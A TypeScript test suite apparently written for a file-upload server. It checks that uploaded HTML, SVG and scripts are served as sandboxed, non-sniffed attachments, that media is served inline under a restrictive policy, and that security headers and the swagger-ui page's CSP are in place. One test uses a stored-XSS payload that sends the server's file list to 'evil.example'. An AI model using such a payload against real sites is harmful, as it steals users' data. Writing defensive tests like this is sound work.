import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { apiClient } from '../helpers/api.js';
import { servedLibrary } from '../helpers/http.js';
import { makeVideo } from '../helpers/media.js';

const SANDBOX = "default-src 'none'; sandbox";
/** Media may load itself (a video opened on its own is a document whose <video> fetches it), never run script. */
const MEDIA_SANDBOX = "default-src 'none'; img-src 'self'; media-src 'self'; sandbox allow-same-origin";

/** An upload with the content type the uploader claims (the server keeps a plausible claim). */
async function uploadAs(url: string, content: string | Uint8Array, name: string, type: string): Promise<string> {
  const form = new FormData();
  form.append('file', new Blob([content], { type }), name);
  const response = await fetch(`${url}/api/files`, { method: 'POST', body: form });
  assert.equal(response.status, 200, `upload of ${name}`);
  return ((await response.json()) as { file_id: string }).file_id;
}

/** The directives of a Content-Security-Policy header, by name. */
function directives(header: string | null): Map<string, string[]> {
  return new Map(
    (header ?? '')
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name!.toLowerCase(), values]),
  );
}

describe('issue 15, item 4: stored cross-site scripting', () => {
  const served = servedLibrary();

  it('an uploaded HTML page, SVG or script downloads as an attachment, sandboxed and never sniffed', async () => {
    const script = '<script>fetch("/api/files").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script>';
    const cases = [
      ['page.html', 'text/html', `<html><body>${script}</body></html>`],
      ['drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
      ['page.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`],
      ['feed.xml', 'text/xml', `<a>${script}</a>`],
      ['app.js', 'application/javascript', 'alert(document.domain)'],
      ['paper.pdf', 'application/pdf', '%PDF-1.4 /JavaScript'],
      ['notes.txt', 'text/plain', script],
    ] as const;
    for (const [name, type, content] of cases) {
      const id = await uploadAs(served.server.url, content, name, type);
      const response = await fetch(`${served.server.url}/api/files/${id}`);
      assert.equal(response.status, 200, name);
      assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="/, `${name} is an attachment`);
      assert.equal(response.headers.get('content-security-policy'), SANDBOX, name);
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff', name);
      assert.equal(await response.text(), content, `${name} keeps its bytes`);
    }
  });

  it('video, images and audio are shown in place, sandboxed without script, and video still seeks with Range', async () => {
    const video = await readFile(await makeVideo(join(served.library.env.dir, 'clip.mp4'), { seconds: 1 }));
    const videoId = await uploadAs(served.server.url, video, 'clip.mp4', 'video/mp4');
    const pngId = await uploadAs(served.server.url, Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'dot.png', 'image/png');
    const audioId = await uploadAs(served.server.url, Buffer.from('ID3\x03\x00\x00\x00\x00\x00\x00'), 'tone.mp3', 'audio/mpeg');
    for (const id of [videoId, pngId, audioId]) {
      const response = await fetch(`${served.server.url}/api/files/${id}`);
      assert.match(response.headers.get('content-disposition') ?? '', /^inline; filename="/);
      assert.equal(response.headers.get('content-security-policy'), MEDIA_SANDBOX);
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
      await response.arrayBuffer();
    }
    // What a <video> element asks for first, then a seek: both answered in place, with the bytes asked.
    const first = await fetch(`${served.server.url}/api/files/${videoId}`, { headers: { range: 'bytes=0-' } });
    assert.equal(first.status, 206);
    assert.equal(first.headers.get('content-type'), 'video/mp4');
    assert.equal(first.headers.get('accept-ranges'), 'bytes');
    assert.deepEqual(Buffer.from(await first.arrayBuffer()), video);
    const seek = await fetch(`${served.server.url}/api/files/${videoId}`, { headers: { range: `bytes=${video.length - 100}-` } });
    assert.equal(seek.status, 206);
    assert.equal(seek.headers.get('content-range'), `bytes ${video.length - 100}-${video.length - 1}/${video.length}`);
    assert.match(seek.headers.get('content-disposition') ?? '', /^inline/);
    assert.deepEqual(Buffer.from(await seek.arrayBuffer()), video.subarray(video.length - 100));
  });

  it('every response carries the usual security headers, and the API\'s JSON may load nothing', async () => {
    const id = await apiClient(served.server.url).upload('plain bytes', 'plain.bin');
    for (const [method, path] of [['GET', '/api/files'], ['GET', `/api/files/${id}`], ['GET', '/nowhere'], ['GET', '/api/files/zz'], ['POST', '/api/analyses'], ['GET', '/health'], ['GET', '/docs/static/index.css']] as const) {
      const response = await fetch(`${served.server.url}${path}`, { method });
      await response.arrayBuffer();
      const where = `${method} ${path} (${response.status})`;
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff', where);
      assert.equal(response.headers.get('x-frame-options'), 'DENY', where);
      assert.equal(response.headers.get('referrer-policy'), 'no-referrer', where);
      assert.equal(response.headers.get('cross-origin-resource-policy'), 'same-origin', where);
      assert.equal(response.headers.get('cross-origin-opener-policy'), 'same-origin', where);
      assert.ok(response.headers.get('content-security-policy'), `${where} has a CSP`);
      assert.equal(response.headers.get('x-powered-by'), null, where);
    }
    const json = await fetch(`${served.server.url}/api/files`);
    const csp = directives(json.headers.get('content-security-policy'));
    assert.deepEqual(csp.get('default-src'), ["'none'"]);
    assert.deepEqual(csp.get('frame-ancestors'), ["'none'"]);
  });

  it('/docs keeps swagger-ui working: its page loads only its own scripts and styles, which the CSP allows', async () => {
    const page = await fetch(`${served.server.url}/docs/`);
    assert.equal(page.status, 200);
    const html = await page.text();
    const csp = directives(page.headers.get('content-security-policy'));
    assert.deepEqual(csp.get('script-src'), ["'self'"]);
    assert.ok(csp.get('style-src')?.includes("'self'"));
    assert.ok(csp.get('connect-src')?.includes("'self'"), 'swagger-ui fetches the OpenAPI document and tries requests');
    assert.ok(csp.get('img-src')?.includes('data:'), 'swagger-ui\'s logo is a data: URL');
    assert.equal(csp.get('upgrade-insecure-requests'), undefined, 'on plain HTTP that would break every asset');
    // No inline script (script-src 'self' would block it): every script and stylesheet is a file here.
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>\s*\S/);
    const assets = [...html.matchAll(/<(?:script|link)[^>]+(?:src|href)="([^"]+)"/g)].map((m) => m[1]!);
    assert.ok(assets.some((a) => a.endsWith('swagger-ui-bundle.js')) && assets.some((a) => a.endsWith('swagger-ui.css')), assets.join(', '));
    for (const asset of assets) {
      const target = new URL(asset, `${served.server.url}/docs/`);
      assert.equal(target.origin, new URL(served.server.url).origin, `${asset} comes from this server ('self')`);
      const response = await fetch(target);
      assert.equal(response.status, 200, asset);
      await response.arrayBuffer();
    }
    const initializer = await (await fetch(`${served.server.url}/docs/static/swagger-initializer.js`)).text();
    assert.doesNotMatch(initializer, /\beval\(|new Function\(/, 'no eval, which the CSP does not allow');
    assert.equal((await fetch(`${served.server.url}/docs/json`)).status, 200);
  });
});
